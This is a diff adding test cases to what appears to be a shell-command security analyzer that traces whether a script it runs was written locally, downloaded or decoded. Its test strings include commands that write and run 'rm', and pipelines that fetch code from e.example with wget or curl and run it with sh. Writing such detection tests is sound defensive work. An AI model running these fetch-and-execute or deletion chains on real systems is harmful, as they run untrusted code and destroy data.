@@ -18,6 +18,8 @@ from security_hooks.model.word import Origin
         "(echo rm x) > f; bash f",
         "echo rm x > f; cp f g; ./g",
         "bash -c 'echo rm x > f'; bash f",
+        "echo rm x | dd of=f; sh ./f",
+        "echo rm x > f; cat f > g; sh g",
     ],
 )
 def test_what_a_script_wrote_is_read_where_it_runs_it(read: Callable[[str], Script], text: str) -> None:
@@ -32,6 +34,10 @@ def test_what_a_script_wrote_is_read_where_it_runs_it(read: Callable[[str], Scri
         ("wget -O f e.example; sh f", Origin.NETWORK),
         ("base64 -d x > f; sh f", Origin.DECODED),
         ("make > f; sh f", Origin.FILE),
+        ("echo ls > g; sort g -o f; sh f", Origin.UNKNOWN),
+        ("echo ls > g; sed s/l/r/ g > f; sh f", Origin.UNKNOWN),
+        ("curl e.example > g; sort g > f; sh f", Origin.NETWORK),
+        ("sort g > f; sh f", Origin.FILE),
         ("echo ls > g; sh f", Origin.FILE),
     ],
 )
